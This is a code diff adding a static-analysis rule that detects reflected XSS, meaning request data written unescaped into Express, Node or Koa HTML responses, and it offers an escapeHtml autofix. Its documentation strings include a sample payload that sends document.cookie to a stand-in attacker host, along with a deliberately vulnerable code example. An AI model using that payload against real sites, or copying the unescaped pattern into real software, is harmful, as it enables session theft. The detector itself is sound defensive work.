@@ -1,0 +1,222 @@
+import { ts } from 'ts-morph';
+import { calleeName, calleeObject, propertyName, stringValue } from '../ast';
+import { skipWrappers } from '../modules';
+import { enclosingFunction } from '../scopes';
+import type { Source } from '../flow';
+import { resolveString } from './jwt-verify-algorithms';
+import { builtString } from './sql-injection';
+import {
+  appendHelperEdit, chainRoot, definingExpression, isResponse, isTypeScriptFile, relatedSource, sourceText, trace, wrapEdit, type TraceOptions,
+} from '../lib/injection';
+import type { Fix, RuleContext, SourceRule, TextEdit } from '../types';
+
+/**
+ * Request data written into an HTML response without escaping:
+ *
+ *   res.send(`<h1>Results for ${req.query.q}</h1>`)
+ *   res.send(req.query.name)                     // Express sends strings as text/html
+ *   res.writeHead(200, { 'Content-Type': 'text/html' }); res.end('<p>' + msg + '</p>')
+ *   ctx.body = `<p>${ctx.query.q}</p>`           // Koa: a body starting with `<` is HTML
+ *
+ * Not reported: res.json, escaped values (escapeHtml, he.encode,
+ * validator.escape, encodeURIComponent, Number), a text/plain or JSON content
+ * type set first, Fastify's reply.send of a string (text/plain), and request
+ * parts a victim's browser sends encoded or on its own (headers, cookies, the URL).
+ */
+
+const HELPER = 'escapeHtml';
+const SINK_NAMES: ReadonlySet<string> = new Set(['send', 'write', 'end']);
+const TYPE_METHODS: ReadonlySet<string> = new Set(['type', 'contentType']);
+const HEADER_METHODS: ReadonlySet<string> = new Set(['set', 'setHeader', 'header', 'writeHead', 'writeHeader']);
+const HTML_TAG = /<[a-zA-Z!/]/;
+const KOA_NAME = /^(ctx|context)$/;
+/**
+ * Request parts an attacker cannot choose in a victim's browser: headers and
+ * cookies are the browser's own, and the URL and path arrive percent-encoded
+ * (`<` is `%3C`). Query values, route params and bodies are decoded.
+ */
+const UNREFLECTABLE_PARTS: ReadonlySet<string> = new Set(['headers', 'cookies', 'signedCookies', 'url', 'originalUrl', 'path', 'hostname', 'href']);
+
+type ContentType = 'html' | 'other' | undefined;
+
+export const rule: SourceRule = {
+  id: 'xss-response',
+  row: 'injection-other',
+  severity: 'error',
+  description: 'Detects request data written unescaped into an HTML response (res.send/write/end of HTML strings, res.send of a raw request value, Koa ctx.body HTML).',
+  message: 'Request data in an HTML response without escaping (reflected XSS): escape it with escapeHtml() or send JSON or text/plain.',
+  fixable: true,
+  docs: {
+    why:
+      'Express sends strings as text/html, so a query value like `<script>fetch("//evil.example?c="+document.cookie)</script>` echoed ' +
+      "into the page runs in your origin: it can read the user's data, act as them and steal session tokens. One crafted link is enough.",
+    bad: "app.get('/search', (req, res) => {\n  res.send(`<h1>Results for ${req.query.q}</h1>`);\n});",
+    good:
+      "import escapeHtml from 'escape-html';\n\napp.get('/search', (req, res) => {\n  res.send(`<h1>Results for ${escapeHtml(String(req.query.q))}</h1>`);\n});",
+    fix:
+      'Render pages with a template engine that escapes by default, or escape every request value with escapeHtml (escape-html, he) ' +
+      'before it goes into HTML; for APIs use `res.json()`, or set `res.type(\'text/plain\')` before echoing text.',
+    cwe: ['CWE-79'],
+    owasp: ['A03:2021'],
+  },
+  create(ctx) {
+    return {
+      [ts.SyntaxKind.CallExpression](node: ts.CallExpression) {
+        const name = calleeName(node);
+        if (!name || !SINK_NAMES.has(name) || node.arguments.length === 0) return;
+        const recv = calleeObject(node);
+        if (!recv || !isResponse(recv)) return;
+        const root = chainRoot(recv);
+        const type = contentTypeAt(node, recv, root);
+        if (type === 'other') return;
+        // Express's res.send(string) defaults to text/html; Node's write/end and Fastify's reply.send do not.
+        const htmlDefault = name === 'send' && !(ts.isIdentifier(root) && root.text === 'reply');
+        check(ctx, node, node.arguments[0], type === 'html' || htmlDefault, type === 'html');
+      },
+      // Koa: ctx.body = `<p>${ctx.query.q}</p>`
+      [ts.SyntaxKind.BinaryExpression](node: ts.BinaryExpression) {
+        if (node.operatorToken.kind !== ts.SyntaxKind.EqualsToken) return;
+        const left = node.left;
+        if (!ts.isPropertyAccessExpression(left) || left.name.text !== 'body') return;
+        const root = skipWrappers(left.expression);
+        if (!ts.isIdentifier(root) || !KOA_NAME.test(root.text)) return;
+        const built = builtString(node.right);
+        if (!built || !built.literals[0].trimStart().startsWith('<')) return;
+        check(ctx, node, node.right, false, false);
+      },
+    };
+  },
+};
+
+/**
+ * Reports a sink argument that carries request data into HTML: a built string
+ * with tags (or any built string when the response is HTML anyway), or a raw
+ * request value when strings are sent as HTML.
+ */
+function check(ctx: RuleContext, sink: ts.Node, arg: ts.Expression, stringsAreHtml: boolean, typeIsHtml: boolean): void {
+  const built = builtString(arg);
+  if (built) {
+    const html = HTML_TAG.test(built.literals.join(''));
+    if (!html && !stringsAreHtml) return;
+    const tainted: { expr: ts.Expression; source: Source }[] = [];
+    for (const e of built.exprs) {
+      const source = trace(ctx, e, XSS_TRACE);
+      if (source && !UNREFLECTABLE_PARTS.has(source.part)) tainted.push({ expr: e, source });
+    }
+    if (tainted.length === 0) return;
+    report(ctx, sink, tainted[0].source, tainted.map((t) => t.expr));
+    return;
+  }
+  if (!stringsAreHtml && !typeIsHtml) return;
+  if (!isScalarRead(ctx, arg)) return;
+  const source = trace(ctx, arg, XSS_TRACE);
+  if (source && !UNREFLECTABLE_PARTS.has(source.part)) report(ctx, sink, source, [arg]);
+}
+
+function report(ctx: RuleContext, sink: ts.Node, source: Source, exprs: ts.Expression[]): void {
+  ctx.report(sink, {
+    message: `Request data (${sourceText(source)}) written into an HTML response without escaping (reflected XSS): escape it with escapeHtml() or send JSON or text/plain.`,
+    related: relatedSource(source),
+    fixes: escapeFix(ctx, exprs),
+  });
+}
+
+/** A single value read from the request (a field, a header), not a whole part, an object or an array: those go out as JSON. */
+function isScalarRead(ctx: RuleContext, arg: ts.Expression): boolean {
+  const def = definingExpression(arg);
+  if (ts.isObjectLiteralExpression(def) || ts.isArrayLiteralExpression(def) || ts.isNewExpression(def)) return false;
+  if (ctx.flow.wholeSource(arg)) return false;
+  return ts.isPropertyAccessExpression(def) || ts.isElementAccessExpression(def) || ts.isIdentifier(def) || ts.isCallExpression(def);
+}
+
+function isEscapeName(n: string): boolean {
+  const lower = n.toLowerCase();
+  if (lower.startsWith('un') || lower.includes('decode')) return false;
+  return /escape|encode|sanitiz|purif|xss|striptags|strip_tags|htmlentities|clean/i.test(n);
+}
+
+const XSS_TRACE: TraceOptions = {
+  sanitizes(_ctx, e) {
+    if (!ts.isCallExpression(e)) return false;
+    const n = calleeName(e) ?? '';
+    if (isEscapeName(n)) return true;
+    // x.replace(/</g, '&lt;'): a hand-written entity escape.
+    if ((n === 'replace' || n === 'replaceAll') && (stringValue(e.arguments[1]) ?? '').includes('&')) return true;
+    return false;
+  },
+};
+
+/** The content type set on this response before the sink (in its call chain or earlier in the function). */
+function contentTypeAt(sink: ts.CallExpression, recv: ts.Expression, root: ts.Node): ContentType {
+  let type: ContentType;
+  // res.type('text/plain').send(x), res.status(200).set('Content-Type', 'text/html').send(x)
+  for (let e = skipWrappers(recv); ts.isCallExpression(e); ) {
+    const t = typeSetBy(e);
+    if (t !== undefined) return t;
+    const c = skipWrappers(e.expression);
+    if (!ts.isPropertyAccessExpression(c)) break;
+    e = skipWrappers(c.expression);
+  }
+  if (!ts.isIdentifier(root)) return undefined;
+  const fn = enclosingFunction(sink);
+  const body = fn && (fn as ts.FunctionLikeDeclaration).body;
+  if (!body) return undefined;
+  const visit = (n: ts.Node): void => {
+    if (n.pos >= sink.pos) return;
+    if (ts.isCallExpression(n) && n.end <= sink.pos) {
+      const r = chainRoot(n);
+      if (ts.isIdentifier(r) && r.text === root.text) {
+        const t = typeSetBy(n);
+        if (t !== undefined) type = t;
+      }
+    }
+    // res.statusCode = 200; res.headers['content-type'] … are rare; calls cover the common forms.
+    ts.forEachChild(n, visit);
+  };
+  visit(body);
+  return type;
+}
+
+/** The content type one call sets: `type('html')`, `set('Content-Type', 'text/plain')`, `writeHead(200, { 'Content-Type': … })`. */
+function typeSetBy(call: ts.CallExpression): ContentType {
+  const name = calleeName(call);
+  if (!name) return undefined;
+  const args = call.arguments;
+  if (TYPE_METHODS.has(name)) return classify(args[0]);
+  if (!HEADER_METHODS.has(name)) return undefined;
+  const header = resolveString(args[0]);
+  if (header !== undefined) return header.toLowerCase() === 'content-type' ? classify(args[1]) : undefined;
+  for (const a of args) {
+    const obj = skipWrappers(a);
+    if (!ts.isObjectLiteralExpression(obj)) continue;
+    for (const p of obj.properties) {
+      if (ts.isPropertyAssignment(p) && propertyName(p.name)?.toLowerCase() === 'content-type') return classify(p.initializer);
+    }
+  }
+  return undefined;
+}
+
+function classify(value: ts.Expression | undefined): ContentType {
+  const s = value && resolveString(value);
+  if (s === undefined) return undefined;
+  return /html/i.test(s) ? 'html' : 'other';
+}
+
+// ---------------------------------------------------------------------------
+// Fix: wrap each tainted value in escapeHtml(…) and add the helper once
+
+function escapeFix(ctx: RuleContext, exprs: ts.Expression[]): Fix[] {
+  const sf = ctx.sourceFile;
+  const typed = isTypeScriptFile(ctx.file);
+  const edits: TextEdit[] = exprs.map((e) => wrapEdit(sf, e, HELPER));
+  const helper = appendHelperEdit(
+    sf,
+    HELPER,
+    '/** Escapes text for HTML element content and quoted attribute values. */\n' +
+      `function ${HELPER}(value${typed ? ': unknown): string' : ')'} {\n` +
+      "  return String(value).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/\"/g, '&quot;').replace(/'/g, '&#39;');\n" +
+      '}',
+  );
+  if (helper) edits.push(helper);
+  return [{ title: 'Escape request data with escapeHtml()', edits, preferred: false }];
+}
